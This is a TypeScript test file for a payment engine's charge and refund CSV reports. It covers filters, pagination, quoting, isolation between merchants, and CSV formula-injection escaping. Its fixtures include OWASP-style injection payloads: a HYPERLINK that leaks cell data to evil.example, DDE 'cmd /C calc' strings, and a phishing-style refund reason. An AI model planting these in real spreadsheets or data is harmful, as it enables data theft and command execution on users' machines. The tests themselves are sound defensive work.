/**
 * Issue 23 item 3, the merchant's reports (real anvil, embedded PostgreSQL, explorer, CA and the checkout
 * engine on mutual TLS): `GET /api/v1/charges` filters by creation time, beneficiary, order id, payment
 * link and status, and `GET /api/v1/reports/charges.csv` streams exactly the listing's rows, page after
 * page (over 1,000 charges, more than two of the report's own 500-row pages), as RFC 4180 CSV with the
 * amounts in units and with the decimal point and the settlement's transaction and block. Another
 * merchant's charges never appear; bad filters are problems, never a 500. `refunds.csv` equals the
 * refunds API (refunds paid on anvil by the merchant's wallet), with its own filters. Issue 38 item 5:
 * merchant text that a spreadsheet would run as a formula (an orderId, a refund reason starting with
 * `=`, `+`, `-`, `@`) is written with an apostrophe in front, and only that text; the documented way back
 * (drop one leading apostrophe) gives the API's rows again.
 */
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import type { Hex } from 'viem'
import { deriveLocalKey } from '../../src/config/index.js'
import { insertCharge } from '../../src/processor/db/charges.js'
import { randomBytes16, ZERO_BYTES16 } from '../../src/wire/order-reference.js'
import { waitFor, startCheckoutFixture, type CheckoutFixture, type TestMerchant } from '../../src/devnet/testing/index.js'

const BULK = 1_100
let f: CheckoutFixture
let merchant: TestMerchant
let other: TestMerchant
let decimals: number
/** The first bulk charge's creation time; the i-th is i seconds later. */
const base = new Date('2026-03-01T00:00:00Z')
let paid: any
let quoted: any
/** Order ids a spreadsheet would run as formulas (OWASP's CSV injection examples), and one that starts with the escape itself. */
const FORMULA_ORDER_IDS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Your receipt")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "'=1+1",
]
let formulas: any[]

before(async () => {
  f = await startCheckoutFixture({ CONFIRMATION_BLOCKS: '0' })
  ;[merchant, other] = [await f.createMerchant(), await f.createMerchant()]
  const token = f.chain.deployment.tokens[0]!
  decimals = token.decimals
  const [first, second] = f.chain.deployment.recipients as Hex[]
  // Charges stored as the engine stores them, many and quickly, one second apart, alternating beneficiaries.
  for (let start = 0; start < BULK; start += 100) {
    await Promise.all(
      Array.from({ length: Math.min(100, BULK - start) }, (_, k) => start + k).map((i) =>
        insertCharge(f.db.pool, {
          id: `ch_${i.toString(16).padStart(24, '0')}`, merchantId: merchant.id, amount: BigInt(1_000_000 + i), token: token.address.toLowerCase() as Hex, currency: token.symbol,
          beneficiary: (i % 3 === 0 ? second! : first!).toLowerCase() as Hex, orderId: `bulk-${i}`, orderReference: randomBytes16(), acquirerId: ZERO_BYTES16,
          fees: 10n, deadline: new Date(Date.now() + 86_400_000), createdAt: new Date(base.getTime() + i * 1000), ephemeralTokenHash: 'x', ephemeralTokenExpiresAt: new Date(Date.now() + 60_000),
        }),
      ),
    )
  }
  await f.createCharge(other)
  quoted = await f.createCharge(merchant, { orderId: 'a,"b" ü' })
  formulas = []
  for (const orderId of FORMULA_ORDER_IDS) formulas.push(await f.createCharge(merchant, { orderId }))
  paid = await f.createCharge(merchant)
  await f.pay(paid)
  paid = await f.waitForStatus(merchant, paid.id, 'settled')
})
after(() => f?.stop())

const API_CHARGES = BULK + 2 + FORMULA_ORDER_IDS.length

/** RFC 4180: quoted fields may hold commas, doubled quotes and line breaks; records end with CRLF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = []
  let record: string[] = []
  let field = ''
  let i = 0
  while (i < text.length) {
    if (text[i] === '"') {
      for (i++; ; i++) {
        if (text[i] === '"' && text[i + 1] === '"') (field += '"'), i++
        else if (text[i] === '"') break
        else if (i >= text.length) throw new Error('unterminated quoted field')
        else field += text[i]
      }
      i++
    } else if (text[i] === ',') (record.push(field), (field = ''), i++)
    else if (text.startsWith('\r\n', i)) (record.push(field), records.push(record), (record = []), (field = ''), (i += 2))
    else if (text[i] === '\n' || text[i] === '\r') throw new Error(`bare line break at ${i}`)
    else field += text[i++]
  }
  assert.equal(field + record.join(''), '', 'the last record ends with CRLF')
  return records
}

/** The documented way back from a report's cell to the API's text: drop one leading apostrophe. */
const cellText = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell)

/**
 * What a spreadsheet user relies on: no cell starts as a formula would (a plain number aside), and the
 * apostrophe that prevents it is only ever in the columns of merchant text, never in a number's.
 */
function assertNoFormulas(header: string[], rows: string[][], textColumns: string[]) {
  for (const row of rows) {
    row.forEach((cell, i) => {
      assert.ok(!/^[=+\-@\t\r]/.test(cell) || /^-?\d+(\.\d+)?$/.test(cell), `${header[i]}: ${cell}`)
      if (cell.startsWith("'")) assert.ok(textColumns.includes(header[i]!), `an apostrophe in ${header[i]}: ${cell}`)
    })
  }
}

const withPoint = (units: string) => {
  const scale = 10n ** BigInt(decimals)
  return `${BigInt(units) / scale}.${(BigInt(units) % scale).toString().padStart(decimals, '0')}`
}

const COLUMNS = ['id', 'status', 'createdAt', 'orderId', 'paymentLinkId', 'token', 'currency', 'decimals', 'beneficiary', 'amount', 'amountDecimal', 'fees', 'feesDecimal', 'totalToPay', 'totalToPayDecimal', 'amountRefunded', 'amountRefundedDecimal', 'orderReference', 'acquirerId', 'deadline', 'settlementTxHash', 'settlementBlockNumber', 'settlementLogIndex', 'confirmations']

/** A charge of the API as the report writes it. */
const asRecord = (c: any) => [
  c.id, c.status, c.createdAt, c.orderId, c.paymentLinkId ?? '', c.token, c.currency, String(decimals), c.beneficiary,
  c.amount, withPoint(c.amount), c.fees, withPoint(c.fees), c.totalToPay, withPoint(c.totalToPay), c.amountRefunded, withPoint(c.amountRefunded),
  c.orderReference, c.acquirerId, c.deadline, c.settlement?.txHash ?? '', String(c.settlement?.blockNumber ?? ''), String(c.settlement?.logIndex ?? ''), String(c.settlement?.confirmations ?? ''),
]

async function allPages(query: string, limit = 100): Promise<any[]> {
  const charges: any[] = []
  for (let cursor: string | null = null, first = true; first || cursor; first = false) {
    const answer = await f.request(merchant.credentials, 'GET', `/api/v1/charges?limit=${limit}${query && `&${query}`}${cursor ? `&cursor=${cursor}` : ''}`)
    assert.equal(answer.status, 200, JSON.stringify(answer.body))
    charges.push(...answer.body.charges)
    cursor = answer.body.nextCursor
  }
  return charges
}

async function report(query = '', credentials = merchant.credentials) {
  const answer = await f.request(credentials, 'GET', `/api/v1/reports/charges.csv${query && `?${query}`}`)
  assert.equal(answer.status, 200, String(answer.body))
  const [header, ...raw] = parseCsv(answer.body)
  assert.deepEqual(header, COLUMNS)
  assertNoFormulas(header!, raw, ['orderId'])
  return { rows: raw.map((row) => row.map(cellText)), raw, headers: answer.headers }
}

describe('charges.csv', () => {
  test('equals the charges API page by page, over several of its own pages', async () => {
    const listed = await allPages('')
    assert.equal(listed.length, API_CHARGES)
    const { rows, headers } = await report()
    assert.equal(headers.get('content-type'), 'text/csv; charset=utf-8; header=present')
    assert.equal(headers.get('content-disposition'), 'attachment; filename="charges.csv"')
    assert.equal(headers.get('transfer-encoding'), 'chunked', 'streamed, not buffered whole')
    assert.equal(rows.length, listed.length)
    for (let page = 0; page * 100 < listed.length; page++) {
      assert.deepEqual(rows.slice(page * 100, page * 100 + 100), listed.slice(page * 100, page * 100 + 100).map(asRecord), `page ${page + 1}`)
    }
  })

  test('has the settlement, the amounts with the decimal point, and quotes what needs quoting', async () => {
    const { rows } = await report(`orderId=${encodeURIComponent(paid.orderId)}`)
    assert.equal(rows.length, 1)
    const row = Object.fromEntries(COLUMNS.map((name, i) => [name, rows[0]![i]]))
    assert.equal(row.status, 'settled')
    assert.equal(row.settlementTxHash, paid.settlement.txHash)
    assert.equal(row.settlementBlockNumber, String(paid.settlement.blockNumber))
    assert.equal(row.amount, '10000000')
    assert.equal(row.amountDecimal, decimals === 6 ? '10.000000' : withPoint('10000000'))
    assert.equal(row.amountRefunded, '0')
    const raw = await f.request(merchant.credentials, 'GET', `/api/v1/reports/charges.csv?orderId=${encodeURIComponent(quoted.orderId)}`)
    assert.ok(raw.body.includes(`,"a,""b"" ü",`), raw.body)
    assert.deepEqual((await report(`orderId=${encodeURIComponent(quoted.orderId)}`)).rows.map((r) => r[3]), ['a,"b" ü'])
  })

  test('an orderId a spreadsheet would run as a formula is written with an apostrophe in front; dropping it gives the API’s row', async () => {
    for (const charge of formulas) {
      const { rows, raw } = await report(`orderId=${encodeURIComponent(charge.orderId)}`)
      assert.equal(raw.length, 1, charge.orderId)
      assert.equal(raw[0]![3], `'${charge.orderId}`)
      assert.deepEqual(rows[0], asRecord((await f.request(merchant.credentials, 'GET', `/api/v1/charges/${charge.id}`)).body))
    }
    const text = (await f.request(merchant.credentials, 'GET', `/api/v1/reports/charges.csv?orderId=${encodeURIComponent(FORMULA_ORDER_IDS[0]!)}`)).body
    assert.ok(text.includes(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Your receipt"")",`), text)
  })

  test('never shows another merchant’s charges', async () => {
    const { rows } = await report('', other.credentials)
    assert.equal(rows.length, 1)
    assert.ok(!rows.some((r) => r[0]!.startsWith('ch_0000')))
  })
})

describe('filters, on the listing and the report alike', () => {
  const agree = async (query: string, expected: (c: any) => boolean, count?: number) => {
    const everything = await allPages('')
    const listed = await allPages(query)
    assert.deepEqual(listed.map((c) => c.id), everything.filter(expected).map((c) => c.id), query)
    if (count !== undefined) assert.equal(listed.length, count, query)
    assert.deepEqual((await report(query)).rows, listed.map(asRecord), query)
  }

  test('from (inclusive) and to (exclusive), by creation time, as dates or times with an offset', async () => {
    await agree(`from=${new Date(base.getTime() + 100_000).toISOString()}&to=${new Date(base.getTime() + 200_000).toISOString()}`, (c) => /^bulk-(1\d\d)$/.test(c.orderId), 100)
    await agree(`from=2026-03-01T00:10:00%2B00:10&to=2026-03-01T00:00:05Z`, (c) => /^bulk-[0-4]$/.test(c.orderId), 5)
    await agree('to=2026-03-01', () => false, 0)
    await agree('from=2026-03-02', (c) => !c.orderId.startsWith('bulk-'), API_CHARGES - BULK)
  })

  test('beneficiary (any case), orderId, status, paymentLinkId, and together', async () => {
    const second = f.chain.deployment.recipients[1]!.toLowerCase()
    await agree(`beneficiary=${second.toUpperCase().replace('0X', '0x')}`, (c) => c.beneficiary === second, Math.ceil(BULK / 3))
    await agree('orderId=bulk-7', (c) => c.orderId === 'bulk-7', 1)
    await agree('status=settled', (c) => c.status === 'settled', 1)
    await agree(`paymentLinkId=pl_${'0'.repeat(24)}`, () => false, 0)
    await agree(`beneficiary=${second}&from=2026-03-01T00:01:00Z&to=2026-03-01T00:02:00Z`, (c) => c.beneficiary === second && /^bulk-(6\d|[7-9]\d|1[01]\d)$/.test(c.orderId), 20)
  })

  test('bad filters are problems naming the parameter, on both', async () => {
    const cases: [string, string][] = [
      ['from=2026-13-01', 'from'],
      ['from=2026-02-30', 'from'],
      ['from=yesterday', 'from'],
      ['from=2026-03-01T00:00:00', 'from'],
      ['to=2026-03-01T24:00:00Z', 'to'],
      ['from=2026-03-02&to=2026-03-01', 'to'],
      ['from=2026-03-01&to=2026-03-01', 'to'],
      ['beneficiary=0x12', 'beneficiary'],
      ['status=paid', 'status'],
      ['orderId=', 'orderId'],
      ['paymentLinkId=pl_x', 'paymentLinkId'],
      ['color=red', 'color'],
    ]
    for (const path of ['/api/v1/charges', '/api/v1/reports/charges.csv']) {
      for (const [query, param] of cases) {
        const answer = await f.request(merchant.credentials, 'GET', `${path}?${query}`)
        assert.equal(answer.status, 400, `${path}?${query}: ${JSON.stringify(answer.body)}`)
        assert.equal(answer.headers.get('content-type'), 'application/problem+json; charset=utf-8')
        assert.equal(answer.body.param, param, `${path}?${query}`)
      }
    }
    for (const query of ['cursor=abc', 'limit=5']) assert.equal((await f.request(merchant.credentials, 'GET', `/api/v1/reports/charges.csv?${query}`)).status, 400, query)
  })
})

describe('refunds.csv', () => {
  const REFUND_COLUMNS = ['id', 'status', 'createdAt', 'chargeId', 'orderId', 'token', 'currency', 'decimals', 'payer', 'recipient', 'amount', 'amountDecimal', 'fees', 'feesDecimal', 'totalToPay', 'totalToPayDecimal', 'reason', 'orderReference', 'deadline', 'settlementTxHash', 'settlementBlockNumber', 'settlementLogIndex', 'confirmations']
  const asRefundRecord = (r: any) => [
    r.id, r.status, r.createdAt, r.chargeId, r.orderId, r.token, r.currency, String(decimals), r.payer, r.recipient,
    r.amount, withPoint(r.amount), r.fees, withPoint(r.fees), r.totalToPay, withPoint(r.totalToPay), r.reason ?? '',
    r.orderReference, r.deadline, r.settlement?.txHash ?? '', String(r.settlement?.blockNumber ?? ''), String(r.settlement?.logIndex ?? ''), String(r.settlement?.confirmations ?? ''),
  ]
  let refunds: any[] = []
  const FORMULA_REASON = '=HYPERLINK("http://evil.example/refund","Refund approved: open")'

  async function refundReport(query = '') {
    const answer = await f.request(merchant.credentials, 'GET', `/api/v1/reports/refunds.csv${query && `?${query}`}`)
    assert.equal(answer.status, 200, String(answer.body))
    assert.equal(answer.headers.get('content-disposition'), 'attachment; filename="refunds.csv"')
    const [header, ...raw] = parseCsv(answer.body)
    assert.deepEqual(header, REFUND_COLUMNS)
    assertNoFormulas(header!, raw, ['orderId', 'reason'])
    return raw.map((row) => row.map(cellText))
  }
  const read = async (id: string) => (await f.request(merchant.credentials, 'GET', `/api/v1/refunds/${id}`)).body

  before(async () => {
    const merchantWalletKey = deriveLocalKey('recipient', 0)
    // The merchant's wallet pays each refund's fees on top: fund it, as the refunds test does.
    await f.pay({ token: paid.token, beneficiary: f.chain.deployment.recipients[0]!, amount: '100000000', orderReference: randomBytes16(), acquirerId: ZERO_BYTES16 }, { payer: 5 })
    const ask = async (chargeId: string, body: object) => {
      const answer = await f.request(merchant.credentials, 'POST', `/api/v1/charges/${chargeId}/refunds`, { body })
      assert.equal(answer.status, 201, JSON.stringify(answer.body))
      return answer.body
    }
    const first = await ask(paid.id, { amount: '3000000', reason: 'returned, "as new", one item' })
    await f.pay({ ...first, beneficiary: first.recipient }, { payerKey: merchantWalletKey })
    await waitFor('the refund to settle', async () => (await read(first.id)).status === 'settled')
    await ask(paid.id, { amount: '2000000', reason: FORMULA_REASON })
    const other = await f.createCharge(merchant, { beneficiary: f.chain.deployment.recipients[0]! })
    await f.pay(other)
    await f.waitForStatus(merchant, other.id, 'settled')
    await ask(other.id, { amount: '1000000' })
  })

  test('equals the refunds API, newest first, with the settlement and the decimal point; the charge shows amountRefunded', async () => {
    const rows = await refundReport()
    assert.equal(rows.length, 3)
    refunds = await Promise.all(rows.map((row) => read(row[0]!)))
    assert.deepEqual(rows, refunds.map(asRefundRecord))
    const settled = refunds.find((r) => r.status === 'settled')
    assert.ok(settled.settlement.txHash)
    const viaCharge = (await f.request(merchant.credentials, 'GET', `/api/v1/charges/${paid.id}/refunds`)).body.refunds
    assert.deepEqual(refunds.filter((r) => r.chargeId === paid.id), viaCharge)
    const charge = (await report(`orderId=${encodeURIComponent(paid.orderId)}`)).rows[0]!
    assert.deepEqual([charge[1], charge[15], charge[16]], ['partially-refunded', '3000000', withPoint('3000000')])
  })

  test('a reason a spreadsheet would run as a formula is written with an apostrophe in front', async () => {
    const answer = await f.request(merchant.credentials, 'GET', '/api/v1/reports/refunds.csv?refundStatus=awaiting-signature')
    assert.ok(answer.body.includes(`,"'=HYPERLINK(""http://evil.example/refund"",""Refund approved: open"")",`), answer.body)
    const withReason = (await refundReport()).filter((row) => row[16] === FORMULA_REASON)
    assert.equal(withReason.length, 1)
  })

  test('filters by refund status and creation time, and by the charge: its id, order id and beneficiary', async () => {
    const ids = async (query: string) => (await refundReport(query)).map((r) => r[0])
    assert.deepEqual(await ids('refundStatus=settled'), refunds.filter((r) => r.status === 'settled').map((r) => r.id))
    assert.deepEqual(await ids('refundStatus=awaiting-signature'), refunds.filter((r) => r.status === 'awaiting-signature').map((r) => r.id))
    assert.deepEqual(await ids(`chargeId=${paid.id}`), refunds.filter((r) => r.chargeId === paid.id).map((r) => r.id))
    assert.deepEqual(await ids(`orderId=${encodeURIComponent(paid.orderId)}`), refunds.filter((r) => r.chargeId === paid.id).map((r) => r.id))
    assert.deepEqual(await ids(`beneficiary=${f.chain.deployment.recipients[0]!}`), refunds.map((r) => r.id))
    assert.deepEqual(await ids(`beneficiary=${f.chain.deployment.recipients[1]!}`), [])
    const newest = refunds[0]
    assert.deepEqual(await ids(`from=${encodeURIComponent(newest.createdAt)}`), [newest.id])
    assert.deepEqual(await ids(`to=${encodeURIComponent(newest.createdAt)}`), refunds.slice(1).map((r) => r.id))
    assert.deepEqual(await ids('to=2026-03-01'), [])
  })

  test('bad filters are problems naming the parameter', async () => {
    const cases: [string, string][] = [
      ['refundStatus=refunded', 'refundStatus'],
      ['status=settled', 'status'],
      ['chargeId=ch_1', 'chargeId'],
      ['from=2026-02-30', 'from'],
      ['from=2026-03-02&to=2026-03-01', 'to'],
      ['beneficiary=nope', 'beneficiary'],
      ['cursor=abc', 'cursor'],
    ]
    for (const [query, param] of cases) {
      const answer = await f.request(merchant.credentials, 'GET', `/api/v1/reports/refunds.csv?${query}`)
      assert.equal(answer.status, 400, `${query}: ${JSON.stringify(answer.body)}`)
      assert.equal(answer.headers.get('content-type'), 'application/problem+json; charset=utf-8')
      assert.equal(answer.body.param, param, query)
    }
  })
})
